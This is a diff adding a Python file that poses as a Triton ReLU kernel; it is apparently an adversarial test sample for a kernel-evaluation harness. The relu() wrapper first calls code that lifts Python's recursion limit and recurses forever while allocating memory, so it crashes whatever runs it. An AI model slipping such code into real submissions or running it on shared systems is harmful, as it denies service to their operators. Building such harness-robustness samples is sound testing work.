@@ -1,0 +1,37 @@
+# /// kernel
+# operator = "relu"
+# language = "triton"
+# ///
+"""Recurses in Python without end, with Python's own limit taken away."""
+
+import sys
+
+import torch
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
+    i = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
+    x = tl.load(x_ptr + i, mask=i < n)
+    tl.store(out_ptr + i, tl.where(x < 0, 0.0, x), mask=i < n)
+
+
+def deeper(*kept):
+    return deeper(bytearray(1 << 16), *kept[:1])
+
+
+def act():
+    sys.setrecursionlimit((1 << 31) - 1)
+    deeper()
+
+
+def relu(x):
+    act()
+    x = x.contiguous()
+    out = torch.empty_like(x)
+    n = x.numel()
+    if n > 0:
+        relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
+    return out
